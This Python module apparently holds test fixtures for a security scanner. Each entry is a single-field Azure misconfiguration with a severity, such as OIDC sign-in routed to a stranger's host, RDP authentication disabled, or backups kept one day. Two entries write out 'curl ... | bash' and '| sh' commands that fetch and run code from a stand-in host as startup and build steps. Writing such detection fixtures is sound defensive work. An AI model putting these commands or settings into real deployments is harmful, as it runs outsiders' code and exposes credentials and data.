"""Attacks on Azure by single fields of apps, APIs, stores, desktops and backups (2026-11-29).

Found by reading every property of the reviewed types of these services in pulumi-azure-native 3.29.0, whose
descriptions are those of Azure's REST documents; what `harm` refers to beyond them as known.
"""

from ..blind import HERE, RG, Props
from .fields_azure import attacks

ESC, SCRIPT, CODE, RES = ("FJ-ESC-115",), ("FJ-ESC-109",), ("FJ-ESC-111",), ("FJ-RES-003", "FJ-RES-212")
TENANT = ("FJ-IDN-211",)
GUID = "22222222-2222-3333-4444-555555555555"
STRANGER = "login.collector.io"
APIM = {**RG, "serviceName": "apim-bank"}
PORTAL = {**RG, "name": "portal"}
BLOBS = "https://stbank.blob.core.windows.net/logs?sig=a"
DAY = {"retentionDuration": {"count": 1, "durationType": "Days"}}
DAILY = {"retentionPolicyType": "LongTermRetentionPolicy", "dailySchedule": DAY}
BOX = {**HERE, "jobName": "box", "sku": {"name": "DataBox"}, "transferType": "ImportToAzure"}
ABROAD = {"country": "IE", "streetAddress1": "1 Main Street", "city": "Dublin"}
SIGN_IN = {"authorizationEndpoint": f"https://{STRANGER}/authorize", "tokenEndpoint": f"https://{STRANGER}/token",
           "certificationUri": f"https://{STRANGER}/keys"}  # fmt: skip
PROVIDERS = {"customOpenIdConnectProviders": {"staff": {"enabled": True, "registration": {
    "clientId": "portal", "openIdConnectConfiguration": SIGN_IN}}}}  # fmt: skip
CROSS = {"customerManagedKeyEncryption": {"keyEncryptionKeyUrl": "https://kv-bank.vault.azure.net/keys/a",
                                          "keyEncryptionKeyIdentity": {"federatedClientId": GUID}}}  # fmt: skip


def policy(**properties: object) -> Props:
    """Returns a policy of backups."""
    return {**RG, "vaultName": "site", "policyName": "day", "properties": properties}


def app(**config: object) -> Props:
    """Returns a web app with a configuration."""
    return {**HERE, "name": "portal", "siteConfig": config}


ATTACKS = attacks((
    *((f"records of APIs go to an instance of unknown owner: {kind}", ESC, f"apimanagement:{kind}",
       {**APIM, **more, "loggerId": "insights", "loggerType": "applicationInsights",
        "credentials": {"instrumentationKey": GUID}},
       "critical", "Application Insights, 'Connection strings': a key alone sends to the global endpoint")
      for kind, more in (("Logger", {}), ("WorkspaceLogger", {"workspaceId": "team"}))),
    ("traces of apps go to an instance of unknown owner", ESC, "app:ManagedEnvironment",
     {**HERE, "environmentName": "apps", "daprAIInstrumentationKey": GUID},
     "critical", "Application Insights, 'Connection strings': a key alone sends to the global endpoint"),
    ("tokens of callers of a workspace stand in addresses", ESC, "apimanagement:WorkspaceApi",
     {**APIM, "workspaceId": "team", "apiId": "pay", "path": "pay", "displayName": "Pay", "authenticationSettings": {
         "openid": {"openidProviderId": "entra", "bearerTokenSendingMethods": ["query"]}}},
     "major", "bearerTokenSendingMethods"),
    ("a gateway of the APIs stands in Dublin", ESC, "apimanagement:Gateway",
     {**APIM, "gatewayId": "site", "locationData": {"name": "Dublin", "countryOrRegion": "IE"}},
     "critical", "API Management, 'Self-hosted gateway overview', location"),
    ("the base image of an app keeps known holes", ESC, "app:ContainerApp",
     {**HERE, "containerAppName": "portal", "patchingConfiguration": {"patchingMode": "Disabled"}}, "minor",
     "patchingConfiguration.patchingMode"),
    *((f"users type their passwords at a stranger's: {kind}", RES, kind,
       {**RG, **more, "identityProviders": PROVIDERS},
       "critical", "he signs in as each (App Service, 'Configure an OpenID Connect provider')")
      for kind, more in (
          ("web:WebAppAuthSettingsV2", {"name": "portal"}),
          ("web:WebAppAuthSettingsV2Slot", {"name": "portal", "slot": "blue"}),
          ("app:ContainerAppsAuthConfig", {"containerAppName": "portal", "authConfigName": "current"}))),
    ("the site is made from a stranger's template", CODE, "web:StaticSite",
     {**HERE, "name": "portal", "templateProperties": {
         "templateRepositoryUrl": "https://github.com/stranger/program", "owner": "bank", "repositoryName": "portal"}},
     "critical", "Azure Static Web Apps REST API, StaticSiteTemplateOptions"),
    ("an app starts with what a stranger serves", SCRIPT, "web:WebApp",
     app(appCommandLine=f"curl -s https://{STRANGER}/start | bash"), "critical", "App Service, 'Startup command'"),
    ("a build of the site runs what a stranger serves", SCRIPT, "web:StaticSite",
     {**HERE, "name": "portal", "buildProperties": {"appBuildCommand": f"curl -s https://{STRANGER}/b | sh"}},
     "critical", "Azure Static Web Apps, 'Build configuration'"),
    *((f"nobody maintains what the app runs with: {version}", ESC, "web:WebApp", app(linuxFxVersion=version), "major",
       "App Service, 'Language runtime support policy'")
      for version in ("PYTHON|3.6", "NODE|14-lts", "PHP|7.4", "DOTNETCORE|3.1")),
    *((f"requests of the app are recorded for a day: {path}", ESC, "web:WebAppDiagnosticLogsConfiguration",
       {**PORTAL, path: {"azureBlobStorage": {"sasUrl": BLOBS, "retentionInDays": 1, **more}}}, "minor",
       "App Service, 'Enable diagnostics logging'")
      for path, more in (("httpLogs", {"enabled": True}), ("applicationLogs", {"level": "Information"}))),
    ("a log of changes of blobs ends the next day", ESC, "storage:BlobServiceProperties",
     {**RG, "accountName": "stbank", "blobServicesName": "default", "changeFeed": {
         "enabled": True, "retentionInDays": 1}}, "minor", "Azure Blob Storage, 'Change feed'"),
    ("the device with copies of data is sent abroad", ESC, "databox:Job",
     {**BOX, "details": {
         "jobDetailsType": "DataBox", "contactDetails": {"contactName": "Ops", "emailList": ["ops@example.ae"],
                                                         "phone": "+97145550123"},
         "shippingAddress": {**ABROAD, "country": "AE"},
         "reverseShippingDetails": {"shippingAddress": ABROAD}}},
     "critical", "Azure Data Box REST API, ReverseShippingDetails"),
    ("a program of a stranger is mounted on every desktop", RES, "desktopvirtualization:MSIXPackage",
     {**RG, "hostPoolName": "staff", "msixPackageFullName": "tool_1.0.0.0_x64__a", "isActive": True,
      "imagePath": r"\\files.collector.io\msix\tool.vhdx"}, "critical", "Azure Virtual Desktop, 'MSIX app attach'"),
    ("desktops are opened on a host that nobody verified", ESC, "desktopvirtualization:HostPool",
     {**HERE, "hostPoolName": "staff", "hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
      "preferredAppGroupType": "Desktop", "customRdpProperty": "authentication level:i:0;enablecredsspsupport:i:0;"},
     "major", "Azure Virtual Desktop, 'Supported RDP properties'"),
    *((f"backups end the next day: {kind}", ESC, "recoveryservices:ProtectionPolicy",
       policy(backupManagementType=management, **properties), "critical", "Azure Backup REST API, ProtectionPolicy")
      for kind, management, properties in (
          ("files", "AzureStorage", {"vaultRetentionPolicy": {"snapshotRetentionInDays": 1, "vaultRetention": DAILY}}),
          ("full", "AzureWorkload", {"subProtectionPolicy": [{"policyType": "Full", "retentionPolicy": DAILY}]}),
          ("logs", "AzureWorkload", {"subProtectionPolicy": [{"policyType": "Log", "retentionPolicy": {
              "retentionPolicyType": "SimpleRetentionPolicy", **DAY}}]}),
          ("simple", "MAB", {"retentionPolicy": {"retentionPolicyType": "SimpleRetentionPolicy", **DAY}}))),
    ("a database is encrypted with a key of another tenant", TENANT, "sql:Database",
     {**HERE, "serverName": "sql", "databaseName": "core", "federatedClientId": GUID},
     "critical", "its owner withdraws the key (Azure SQL, 'Cross-tenant customer-managed keys')"),
    ("maps are encrypted with a key of another tenant", TENANT, "maps:Account",
     {**HERE, "accountName": "maps", "kind": "Gen2", "sku": {"name": "G2"}, "properties": {"encryption": CROSS}},
     "critical", "its owner withdraws the key (Azure Maps, 'Customer-managed keys')"),
))  # fmt: skip
